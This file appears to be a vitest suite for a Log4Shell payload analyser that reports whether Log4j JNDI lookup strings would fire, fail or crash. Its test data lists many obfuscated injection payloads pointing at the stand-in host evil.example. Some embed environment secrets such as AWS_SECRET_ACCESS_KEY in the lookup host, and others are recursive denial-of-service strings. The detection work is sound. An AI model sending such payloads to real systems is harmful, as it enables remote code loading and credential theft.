import { expect, test } from 'vitest'
import { readText } from './reading.ts'

const target = 'ldap://evil.example:1389/a'
const noon = Date.UTC(2021, 11, 12, 12)

test.each([
  ['plain', '${jndi:ldap://evil.example:1389/a}', ['A', 'B', 'C'], target],
  ['with another case of the prefix', '${JNDI:ldap://evil.example:1389/a}', ['B', 'C'], target],
  ['built from defaults', '${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example:1389/a}', ['B', 'C'], target],
  ['built with lower', '${jndi:${lower:L}dap://evil.example:1389/a}', ['C'], target],
  ['with a dotless i', '${jnd${upper:ı}:ldap://evil.example:1389/a}', ['C'], target],
  ['with an escape that a value undoes', '${x:-$${jndi:ldap://evil.example:1389/a}}', ['B', 'C'], target],
  ['with an escape that the next pass undoes', 'a ${x} $${jndi:ldap://evil.example:1389/a}', ['A', 'B', 'C'], target],
  [
    'put together by a pass for the next one',
    '${::-$}{j${::-n}di:ldap://evil.example:1389/a} ${x}',
    ['A', 'B', 'C'],
    target,
  ],
  ['put together with lower', '${lower:$}{j${lower:n}di:ldap://evil.example:1389/a} ${', ['C'], target],
  ['to a domain', '${jndi:ldap:///dc=evil,dc=example}', ['A', 'B', 'C'], 'ldap:///dc=evil,dc=example'],
  ['to the resolver', '${jndi:dns:evil.example}', ['A', 'B', 'C'], 'dns:evil.example'],
])('what fires says on which releases: %s', (_case, text, firesOn, name) => {
  const reading = readText(text)

  expect(reading).toMatchObject({ verdict: 'fires', firesOn })
  expect(reading?.contacts[0]?.name).toBe(name)
})

test.each([
  ['the scheme is not lower case', '${jndi:LDAP://evil.example/a}', /no provider for LDAP/],
  ['it is never closed', '${jndi:ldap://evil.example/a', /not closed/],
  ['it is escaped', '$${jndi:ldap://evil.example/a}', /escaped/],
  [
    'there is no lookup for base64',
    '${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}',
    /no lookup of the name base64/,
  ],
  ['a letter only looks like another', '${jndı:ldap://evil.example/a}', /looks like/],
  ['blanks stand in the prefix', '${ jndi :ldap://evil.example/a}', /does not come out/],
  ['the opener is never put together', '${::-$}{jndi:ldap://evil.example/a}', /does not come out/],
  ['nobody is asked through http', '${jndi:http://evil.example/a}', /no provider for http/],
])('what cannot fire says why: %s', (_case, text, because) => {
  const reading = readText(text)

  expect(reading?.verdict).toBe('attempt')
  expect(reading?.because).toMatch(because)
  expect(reading?.firesOn).toEqual([])
})

test.each([
  ['a value that needs itself', '${a:-${a}}', /refers to itself/],
  ['the published one', '${${::-${::-$${::-j}}}}', /refers to itself/],
  ['a message in itself', '${lower:${event:Message}}', /refers to itself|deeper/],
  ['nested without end', `${'${a:-'.repeat(2_000)}${'}'.repeat(2_000)}`, /deeper/],
])('what makes Log4j fail is told: %s', (_case, text, because) => {
  expect(readText(text)).toMatchObject({ verdict: 'dos', because: expect.stringMatching(because) as string })
})

test.each([
  '${x}',
  '${project.version}',
  '${VAR:-default}',
  '${sys:user.home}/logs',
  '$${ctx:loginId}',
  '${env:HOME:-/root}',
  '${date:yyyy-MM-dd}',
  '${jndi:java:comp/env/jdbc/db}',
  '${jndi:comp/env/name}',
  '${{ github.sha }}',
  '${a',
  'no lookup at all',
])('%j is a template like any other', (text) => {
  expect(readText(text)).toBeNull()
})

test('a default hides the payload from the log, and an error the whole event', () => {
  expect(readText('${jndi:ldap://evil.example/a:-Mozilla/5.0}')?.traits).toEqual(['laundering'])
  expect(readText('${jndi:ldap://evil.example/a}${java:x}')?.traits).toEqual(['suppression'])
  expect(readText('${jndi:ldap://evil.example/a:-b}${java:x}')?.traits).toEqual(['laundering', 'suppression'])
  expect(readText('${jndi:ldap://evil.example/a}')?.traits).toEqual([])
})

test('what is cut off is read as if it were not, and is said to be', () => {
  for (const text of [
    '${jndi:ldap://evil.example:1389/a',
    '${${::-j}ndi:ldap://evil.example:1389/a',
    '${jndi:ldap://evil.example:1389/a" 200 -',
  ]) {
    const reading = readText(text)
    expect(reading?.traits).toEqual(['truncated'])
    expect(reading?.contacts[0]?.target).toMatchObject({ host: 'evil.example', port: 1389 })
  }
})

test('it says how often a name is looked up for one message', () => {
  expect(readText('${jndi:ldap://evil.example/a}')?.times).toBe(1)
  expect(readText('${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}')?.times).toBe(5)
  expect(readText('${jndi:ldap://evil.example/a} ${x} ${y}')?.times).toBe(3)
})

test('each of several names is told, those of hosts first', () => {
  const reading = readText('${jndi:ldap:/x} ${jndi:rmi://b.example/a} ${jndi:dns://c.example/q}')

  expect(reading?.contacts.map(({ name }) => name)).toEqual(['rmi://b.example/a', 'dns://c.example/q', 'ldap:/x'])
})

test('what the name would carry is told, with its place', () => {
  const reading = readText('${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/${lower:${env:USER:-none}}}')

  expect(reading?.leaks).toEqual([
    {
      read: 'env:AWS_SECRET_ACCESS_KEY',
      into: 'ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/none',
    },
    expect.objectContaining({ read: 'env:USER' }),
  ])
  expect(reading?.leaks[1]?.into).toContain('/${env:USER}')
  expect(reading?.contacts[0]?.target).toMatchObject({ host: '${env:AWS_SECRET_ACCESS_KEY}.evil.example' })
})

test('a date in a name is that of the event', () => {
  expect(readText('${jndi:ldap://${date:yyyyMMdd}.evil.example/a}', noon)?.contacts[0]?.name).toBe(
    'ldap://20211212.evil.example/a',
  )
})

test.each([
  ['ldap://127.0.0.1#evil.example:1389/a', 'legacy'],
  ['ldap://evil_host.example/a', 'legacy'],
  ['ldap://evil.example/a b', 'compat'],
  ['ldap://evil.example/a', 'strict'],
])('%s needs a JDK that reads URLs the way it calls %s', (name, parsing) => {
  expect(readText(`\${jndi:${name}}`)?.contacts[0]?.target).toMatchObject({ is: 'contact', parsing })
})

test('a name whose port is none is looked up, and its provider refuses', () => {
  expect(readText('${jndi:ldap://evil.example:abc/a}')).toMatchObject({
    verdict: 'fires',
    because: expect.stringContaining('no host and port') as string,
  })
})

test.each([
  'iiop://evil.example/${env:SECRET_KEY}',
  'iiopname://evil.example/${env:SECRET_KEY}',
  'corbaname::evil.example#${env:SECRET_KEY}',
])('%s is looked up, and asked for by a JDK up to 10', (name) => {
  expect(readText(`\${jndi:${name}}`)).toMatchObject({
    verdict: 'fires',
    because: expect.stringContaining('a JDK from 11 on has no provider') as string,
    leaks: [{ read: 'env:SECRET_KEY' }],
  })
})
